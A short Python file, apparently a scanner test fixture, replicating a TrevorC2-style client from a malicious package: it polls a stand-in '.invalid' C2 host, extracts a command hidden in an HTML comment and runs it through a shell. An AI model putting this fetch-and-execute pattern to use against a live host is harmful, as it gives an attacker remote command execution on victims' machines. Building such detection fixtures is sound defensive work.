# Defanged replica of the TrevorC2-style client in importantpackage: a small
# request class hides the network read, and the poll loop runs what the page
# says. The host is .invalid.
import subprocess
from urllib import request


class Request:
    def get(self, url):
        opener = request.build_opener()
        return opener.open(url, timeout=5).read()


req = Request()


def poll():
    html = req.get("https://c2.example.invalid/")
    command = html.decode().split("<!-- PARAM=")[1].split("-->")[0]
    subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)  # expect: HS102 critical
